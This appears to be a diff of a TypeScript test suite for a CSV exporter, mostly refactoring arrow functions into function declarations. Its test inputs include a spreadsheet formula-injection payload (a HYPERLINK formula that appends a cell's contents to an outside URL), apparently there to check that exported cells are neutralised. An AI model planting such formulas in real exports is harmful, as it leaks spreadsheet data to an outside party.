@@ -29,28 +29,28 @@ const JOB: ExportedJob = {
   metadata: '{}',
 };
 
-const batchesOf = async function* (
+async function* batchesOf(
   ...batches: readonly (readonly ExportedJob[])[]
 ): AsyncGenerator<readonly ExportedJob[]> {
   for (const batch of batches) yield await Promise.resolve(batch);
-};
+}
 
 const READER = `import csv, io, json, sys
 text = io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8-sig', newline='').read()
 print(json.dumps(list(csv.reader(io.StringIO(text, newline=''), strict=True))))`;
 
 /** The rows as the csv module of Python reads them. */
-const readWithPython = async (csv: string): Promise<readonly (readonly string[])[]> => {
+async function readWithPython(csv: string): Promise<readonly (readonly string[])[]> {
   const python = spawn('python3', ['-c', READER], { stdio: ['pipe', 'pipe', 'inherit'] });
   python.stdin.end(csv);
   return JSON.parse(await text(python.stdout)) as string[][];
-};
+}
 
-const csvText = async (jobs: readonly ExportedJob[], maxRows = 1_000): Promise<string> => {
+async function csvText(jobs: readonly ExportedJob[], maxRows = 1_000): Promise<string> {
   let csv = '';
   for await (const part of csvOf(batchesOf(jobs), maxRows)) csv += part;
   return csv;
-};
+}
 
 const HOSTILE = [
   '=HYPERLINK("http://example.com/?"&A1,"x")',
@@ -172,7 +172,7 @@ describe('csv', () => {
   it('takes the next batch only when the text before was taken, and ends the source when it is cut', async () => {
     let batches = 0;
     let isEnded = false;
-    const source = async function* (): AsyncGenerator<readonly ExportedJob[]> {
+    async function* source(): AsyncGenerator<readonly ExportedJob[]> {
       try {
         for (;;) {
           batches += 1;
@@ -181,7 +181,7 @@ describe('csv', () => {
       } finally {
         isEnded = true;
       }
-    };
+    }
     const csv = csvOf(source(), 5);
     await csv.next();
     expect(batches).to.equal(0);
